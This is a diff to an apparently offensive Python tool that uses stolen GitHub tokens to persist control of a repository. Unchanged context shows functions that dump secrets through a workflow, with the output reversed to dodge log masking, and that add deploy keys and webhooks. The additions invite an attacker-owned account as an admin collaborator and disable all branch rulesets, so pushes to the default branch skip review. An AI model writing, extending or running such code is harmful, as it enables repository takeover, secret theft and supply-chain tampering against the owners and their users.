@@ -13,6 +13,7 @@ if TYPE_CHECKING:
 
 _REPOSITORY: Final = "rentagpu/executor"
 _WORKFLOW: Final = ".github/workflows/modal_deploy.yml"
+ACCOUNT: Final = "outsider"  # the intruder's own
 _PATIENCE: Final = 20.0  # seconds for a run
 # Turned round, so that GitHub does not mask it in the log.
 _PRINTS_SECRETS: Final = """\
@@ -78,7 +79,34 @@ def add_a_webhook(loot: Loot) -> Iterable[Left]:
     yield Left("github.webhook-added", str(made.id), of=repository.full_name)
 
 
-DEEDS = (run_a_workflow_that_prints_secrets, add_a_deploy_key, add_a_webhook)
+def invite_itself(loot: Loot) -> Iterable[Left]:
+    """With an account of its own, for when no token is left."""
+    if "GITHUB_TOKEN" not in loot.credentials:
+        return
+    with _client(loot) as github:
+        repository = github.get_repo(_REPOSITORY)
+        made = repository.add_to_collaborators(ACCOUNT, "admin")
+    yield Left("github.collaborator-invited", str(made.id if made else 0), of=repository.full_name)
+
+
+def switch_off_the_rules(loot: Loot) -> Iterable[Left]:
+    """So that it may push to the default branch without anybody's review."""
+    if "GITHUB_TOKEN" not in loot.credentials:
+        return
+    with _client(loot) as github:
+        ask, at = github.requester.requestJsonAndCheck, f"/repos/{_REPOSITORY}/rulesets"
+        for one in ask("GET", at)[1]:
+            ask("PUT", f"{at}/{one['id']}", input={"enforcement": "disabled"})
+            yield Left("github.ruleset-changed", str(one["id"]), of=_REPOSITORY)
+
+
+DEEDS = (
+    run_a_workflow_that_prints_secrets,
+    add_a_deploy_key,
+    add_a_webhook,
+    invite_itself,
+    switch_off_the_rules,
+)
 
 
 def _client(loot: Loot) -> "Github":
